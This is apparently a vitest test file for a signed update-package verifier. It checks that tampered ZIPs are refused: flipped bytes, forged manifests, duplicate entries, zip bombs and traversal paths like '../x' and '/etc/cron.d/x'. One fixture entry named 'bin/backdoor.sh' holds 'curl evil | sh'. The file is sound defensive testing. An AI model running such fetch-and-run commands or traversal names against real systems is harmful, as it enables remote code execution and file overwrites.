import { mkdtempSync, readFileSync, rmSync, statSync, truncateSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeZipFile, type ZipEntry, type ZipFileOptions } from "@portal/test-support";
import { verifyUpdatePackage, type UpdatePackageResult } from "./index.js";
import { makeKeys, makeManifest, manifestFile, signManifest, writeTestPackage } from "./test/forge.js";

const keys = makeKeys();
const otherKeys = makeKeys();

const contents: Record<string, Buffer> = {
  "backend.zip": Buffer.from("PK backend ".repeat(5000)),
  "frontend.zip": Buffer.from("PK frontend ".repeat(3000)),
  "config/app.json": Buffer.from('{"port":8080}\n'),
  "bin/tools/migrate": Buffer.alloc(0),
};
const manifest = makeManifest(Object.entries(contents).map(([filePath, content]) => manifestFile(filePath, content)));
const manifestText = JSON.stringify(manifest);
const signature = signManifest(manifestText, keys.privateKey);
const entries: ZipEntry[] = Object.entries(contents).map(([name, data]) => ({ name, data }));

let dir: string;
let counter = 0;

beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), "update-package-"));
});

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** Writes a package into the temp dir and returns its path. */
function packageOf(files: ZipEntry[] = entries, options: ZipFileOptions & { manifestText?: string; signature?: string } = {}): string {
  const file = path.join(dir, `package-${++counter}.zip`);
  writeTestPackage(file, options.manifestText ?? manifestText, options.signature ?? signature, files, options);
  return file;
}

function reasonOf(result: UpdatePackageResult) {
  return result.ok ? "OK" : result.reason;
}

function statuses(result: UpdatePackageResult) {
  return Object.fromEntries((result.files ?? []).map((file) => [file.path, file.status]));
}

/** Where the data of entry `name` starts in the package file, found through its local header (to damage it in place). */
function dataOffsetOf(file: string, name: string): number {
  const bytes = readFileSync(file);
  for (let at = bytes.indexOf("PK\x03\x04"); at >= 0; at = bytes.indexOf("PK\x03\x04", at + 1)) {
    const nameLength = bytes.readUInt16LE(at + 26);
    if (bytes.toString("utf8", at + 30, at + 30 + nameLength) === name) return at + 30 + nameLength + bytes.readUInt16LE(at + 28);
  }
  throw new Error(`no entry "${name}" in ${file}`);
}

function flipByteAt(file: string, offset: number): void {
  const bytes = readFileSync(file);
  bytes.writeUInt8(bytes.readUInt8(offset) ^ 0x01, offset);
  writeFileSync(file, bytes);
}

const ALL_OK = { "backend.zip": "ok", "frontend.zip": "ok", "config/app.json": "ok", "bin/tools/migrate": "ok" };

describe("verifyUpdatePackage: intact packages", () => {
  it("accepts a package of stored entries and returns the manifest and every file's check", async () => {
    const progress: number[] = [];
    const result = await verifyUpdatePackage(packageOf(), keys.publicKeyPem, { onProgress: (done) => progress.push(done) });
    expect(reasonOf(result)).toBe("OK");
    expect(result.manifest).toEqual(manifest);
    expect(statuses(result)).toEqual(ALL_OK);
    expect(progress.at(-1)).toBe(Object.values(contents).reduce((sum, content) => sum + content.length, 0));
  });

  it("accepts deflated entries, data descriptors, folder entries of listed folders and an archive comment", async () => {
    const mixed: ZipEntry[] = [
      { name: "backend.zip", data: contents["backend.zip"], deflate: true },
      { name: "frontend.zip", data: () => [(contents["frontend.zip"] as Buffer).subarray(0, 7), (contents["frontend.zip"] as Buffer).subarray(7)] },
      { name: "config/", data: "" },
      { name: "config/app.json", data: contents["config/app.json"], deflate: true },
      { name: "bin/", data: "" },
      { name: "bin/tools/", data: "" },
      { name: "bin/tools/migrate", data: "", deflate: true },
    ];
    const result = await verifyUpdatePackage(packageOf(mixed, { comment: "update 2.4.0" }), keys.publicKeyPem);
    expect(reasonOf(result)).toBe("OK");
    expect(statuses(result)).toEqual(ALL_OK);
  });

  it("accepts manifest.sig with or without its trailing newline", async () => {
    const file = path.join(dir, "no-newline.zip");
    writeZipFile(file, [{ name: "manifest.json", data: manifestText }, { name: "manifest.sig", data: signature }, ...entries]);
    expect(reasonOf(await verifyUpdatePackage(file, keys.publicKeyPem))).toBe("OK");
  });

  it("accepts a ZIP64 package", async () => {
    expect(reasonOf(await verifyUpdatePackage(packageOf(entries, { zip64: true }), keys.publicKeyPem))).toBe("OK");
  });

  it("accepts a ZIP64 package whose entries lie beyond 4 GiB (behind a sparse hole)", async () => {
    const file = packageOf(entries, { zip64: true, startOffset: 4.5 * 1024 ** 3 });
    expect(statSync(file).size).toBeGreaterThan(2 ** 32);
    const result = await verifyUpdatePackage(file, keys.publicKeyPem);
    expect(reasonOf(result)).toBe("OK");
    expect(statuses(result)).toEqual(ALL_OK);
    rmSync(file);
  });

  it("accepts a download that was cut halfway and resumed (the rest appended, as after a Range request)", async () => {
    const whole = packageOf();
    const bytes = readFileSync(whole);
    const download = path.join(dir, "download.zip.part");
    writeFileSync(download, bytes.subarray(0, Math.floor(bytes.length / 2)));
    const cut = await verifyUpdatePackage(download, keys.publicKeyPem);
    expect(reasonOf(cut)).toBe("BAD_PACKAGE");
    if (!cut.ok) expect(cut.message).toMatch(/truncated/);
    writeFileSync(download, bytes.subarray(Math.floor(bytes.length / 2)), { flag: "a" });
    expect(reasonOf(await verifyUpdatePackage(download, keys.publicKeyPem))).toBe("OK");
  });
});

describe("verifyUpdatePackage: tampered packages", () => {
  it("refuses one flipped byte in an entry (stored) and names the file", async () => {
    const file = packageOf();
    flipByteAt(file, dataOffsetOf(file, "frontend.zip") + 100);
    const result = await verifyUpdatePackage(file, keys.publicKeyPem);
    expect(reasonOf(result)).toBe("FILE_MISMATCH");
    expect(statuses(result)).toEqual({ ...ALL_OK, "frontend.zip": "hash_mismatch" });
    expect(result.manifest).toEqual(manifest);
    if (!result.ok) expect(result.message).toBe("1 of 4 files do not match the manifest: frontend.zip (hash mismatch).");
  });

  it("refuses one flipped byte in a deflated entry", async () => {
    const file = packageOf(entries.map((entry) => ({ ...entry, deflate: true })));
    flipByteAt(file, dataOffsetOf(file, "backend.zip") + 20);
    const result = await verifyUpdatePackage(file, keys.publicKeyPem);
    expect(reasonOf(result)).toBe("FILE_MISMATCH");
    expect(statuses(result)["backend.zip"]).not.toBe("ok");
  });

  it("refuses an entry the manifest does not list", async () => {
    const result = await verifyUpdatePackage(packageOf([...entries, { name: "bin/backdoor.sh", data: "curl evil | sh" }]), keys.publicKeyPem);
    expect(result).toMatchObject({ ok: false, reason: "UNLISTED_ENTRY", manifest });
    if (!result.ok) expect(result.message).toContain('"bin/backdoor.sh"');
  });

  it("refuses a folder entry no listed file needs", async () => {
    expect(reasonOf(await verifyUpdatePackage(packageOf([...entries, { name: "etc/", data: "" }]), keys.publicKeyPem))).toBe("UNLISTED_ENTRY");
  });

  it("refuses a package missing a listed file", async () => {
    const result = await verifyUpdatePackage(packageOf(entries.filter((entry) => entry.name !== "config/app.json")), keys.publicKeyPem);
    expect(reasonOf(result)).toBe("FILE_MISMATCH");
    expect(statuses(result)).toEqual({ ...ALL_OK, "config/app.json": "missing" });
  });

  it.each(["../x", "/etc/cron.d/x", "a/../../x", "C:/x", "a\\..\\x"])("refuses an entry named %j", async (name) => {
    const result = await verifyUpdatePackage(packageOf([...entries, { name, data: "payload" }]), keys.publicKeyPem);
    expect(reasonOf(result)).toBe("UNSAFE_PATH");
    if (!result.ok) expect(result.message).toContain(`"${name}"`);
  });

  it("refuses a duplicate entry, even with identical content", async () => {
    const result = await verifyUpdatePackage(packageOf([...entries, { name: "backend.zip", data: contents["backend.zip"] }]), keys.publicKeyPem);
    expect(reasonOf(result)).toBe("DUPLICATE_ENTRY");
  });

  it("refuses a truncated file inside a well-formed package", async () => {
    const cut = entries.map((entry) => (entry.name === "backend.zip" ? { ...entry, data: (contents["backend.zip"] as Buffer).subarray(0, 100) } : entry));
    const result = await verifyUpdatePackage(packageOf(cut), keys.publicKeyPem);
    expect(reasonOf(result)).toBe("FILE_MISMATCH");
    expect(statuses(result)["backend.zip"]).toBe("size_mismatch");
    expect(result.files?.[0]).toMatchObject({ actualSize: 100 });
  });

  it("refuses a truncated package", async () => {
    const file = packageOf();
    truncateSync(file, statSync(file).size - 10);
    expect(reasonOf(await verifyUpdatePackage(file, keys.publicKeyPem))).toBe("BAD_PACKAGE");
  });

  it("refuses a re-signed manifest: another key, or the manifest altered and the package rebuilt", async () => {
    const foreign = await verifyUpdatePackage(packageOf(entries, { signature: signManifest(manifestText, otherKeys.privateKey) }), keys.publicKeyPem);
    expect(reasonOf(foreign)).toBe("BAD_SIGNATURE");
    expect(foreign.manifest).toBeUndefined();
    const altered = manifestText.replace('"type":"minor"', '"type":"major"');
    expect(reasonOf(await verifyUpdatePackage(packageOf(entries, { manifestText: altered }), keys.publicKeyPem))).toBe("BAD_SIGNATURE");
  });

  it("refuses a swapped file whose manifest entry was rewritten to match it", async () => {
    const evil = Buffer.from("evil backend");
    const forged = makeManifest(manifest.files.map((file) => (file.path === "backend.zip" ? manifestFile("backend.zip", evil) : file)));
    const swapped = entries.map((entry) => (entry.name === "backend.zip" ? { ...entry, data: evil } : entry));
    const result = await verifyUpdatePackage(packageOf(swapped, { manifestText: JSON.stringify(forged) }), keys.publicKeyPem);
    expect(reasonOf(result)).toBe("BAD_SIGNATURE");
  });

  it("refuses a byte flipped in manifest.json in place (its CRC no longer matches)", async () => {
    const file = packageOf();
    flipByteAt(file, dataOffsetOf(file, "manifest.json") + manifestText.indexOf('"version":"2.4.0"') + 12);
    expect(reasonOf(await verifyUpdatePackage(file, keys.publicKeyPem))).toBe("BAD_PACKAGE");
  });

  it("refuses a package without manifest.json or manifest.sig", async () => {
    const noManifest = path.join(dir, "no-manifest.zip");
    writeZipFile(noManifest, [{ name: "manifest.sig", data: signature }, ...entries]);
    const result = await verifyUpdatePackage(noManifest, keys.publicKeyPem);
    expect(result).toMatchObject({ ok: false, reason: "BAD_PACKAGE", message: "The package holds no manifest.json: it is not an update package." });
    const noSignature = path.join(dir, "no-signature.zip");
    writeZipFile(noSignature, [{ name: "manifest.json", data: manifestText }, ...entries]);
    expect(reasonOf(await verifyUpdatePackage(noSignature, keys.publicKeyPem))).toBe("BAD_PACKAGE");
  });

  it("refuses a manifest that installs a file where the package keeps its manifest", async () => {
    const sneaky = makeManifest([...manifest.files, manifestFile("manifest.sig", "x")]);
    const text = JSON.stringify(sneaky);
    const result = await verifyUpdatePackage(packageOf(entries, { manifestText: text, signature: signManifest(text, keys.privateKey) }), keys.publicKeyPem);
    expect(reasonOf(result)).toBe("BAD_PACKAGE");
  });

  it("refuses an entry whose CRC-32 is wrong even though its content matches", async () => {
    const wrongCrc = entries.map((entry) => (entry.name === "config/app.json" ? { ...entry, crc32: 0x12345678 } : entry));
    const result = await verifyUpdatePackage(packageOf(wrongCrc), keys.publicKeyPem);
    expect(reasonOf(result)).toBe("FILE_MISMATCH");
    expect(statuses(result)["config/app.json"]).toBe("unreadable");
  });

  it("stops a deflated entry that inflates beyond its declared size", async () => {
    const small = Buffer.from("x".repeat(1000));
    const bomb = Buffer.from("x".repeat(1_000_000));
    const text = JSON.stringify(makeManifest([manifestFile("backend.zip", small)]));
    const file = packageOf([{ name: "backend.zip", data: bomb, deflate: true, declaredSize: small.length }], {
      manifestText: text,
      signature: signManifest(text, keys.privateKey),
    });
    const result = await verifyUpdatePackage(file, keys.publicKeyPem);
    expect(reasonOf(result)).toBe("FILE_MISMATCH");
    expect(result.files?.[0]).toMatchObject({ status: "unreadable", message: "holds more than the 1000 bytes its header declares." });
  });

  it("refuses an entry whose local name differs from its central name", async () => {
    const renamed = entries.map((entry) => (entry.name === "config/app.json" ? { ...entry, localName: "config/app.jsoN" } : entry));
    const result = await verifyUpdatePackage(packageOf(renamed), keys.publicKeyPem);
    expect(result).toMatchObject({ ok: false, reason: "BAD_PACKAGE", message: expect.stringMatching(/mismatched local header/) });
  });

  it("refuses what is not a ZIP file", async () => {
    const garbage = path.join(dir, "garbage.zip");
    writeFileSync(garbage, "this is not a zip file at all, just text that goes on for a while");
    expect(reasonOf(await verifyUpdatePackage(garbage, keys.publicKeyPem))).toBe("BAD_PACKAGE");
    const empty = path.join(dir, "empty.zip");
    writeFileSync(empty, "");
    expect(reasonOf(await verifyUpdatePackage(empty, keys.publicKeyPem))).toBe("BAD_PACKAGE");
  });

  it("gives BAD_SIGNATURE for an unusable public key, rejects for a missing path or a folder, throws for no path", async () => {
    const result = await verifyUpdatePackage(packageOf(), "not a key");
    expect(reasonOf(result)).toBe("BAD_SIGNATURE");
    await expect(verifyUpdatePackage(path.join(dir, "missing.zip"), keys.publicKeyPem)).rejects.toMatchObject({ code: "ENOENT" });
    await expect(verifyUpdatePackage(dir, keys.publicKeyPem)).rejects.toThrow(/is not a file/);
    await expect(verifyUpdatePackage("", keys.publicKeyPem)).rejects.toThrow(TypeError);
  });
});
